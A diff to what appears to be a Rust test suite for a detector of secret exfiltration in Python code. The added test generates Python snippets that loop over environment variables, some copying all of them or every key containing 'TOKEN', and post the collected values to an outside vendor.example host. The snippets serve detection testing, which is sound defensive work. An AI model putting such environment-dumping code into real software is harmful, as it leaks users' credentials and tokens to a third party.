@@ -144,6 +144,20 @@ fn data_that_is_lost_in_deep_calls_is_said() {
 }
 
 #[test]
+fn a_loop_that_selects_variables_does_not_send_the_environment() {
+    let program = |condition: &str| {
+        format!(
+            "import os, requests\ncfg = {{}}\nfor k, v in os.environ.items():\n    if {condition}:\n        cfg[k] = v\nrequests.post('https://vendor.example', json=cfg)\n"
+        )
+    };
+    let honest = [program("k.startswith('APP_')"), program("k in ('CI', 'LANG')")];
+    all_are_honest(Dialect::Python, &[&honest[0], &honest[1]]);
+    for condition in ["k", "k != 'PATH'", "not k.startswith('_')", "'TOKEN' in k"] {
+        all_are(Dialect::Python, Rule::EnvironmentSent, &[&program(condition)]);
+    }
+}
+
+#[test]
 fn many_decoys_do_not_hide_a_secret() {
     let decoys: String = (0..9)
         .map(|n| format!("d += requests.get('https://a{n}.vendor.example').text\n"))
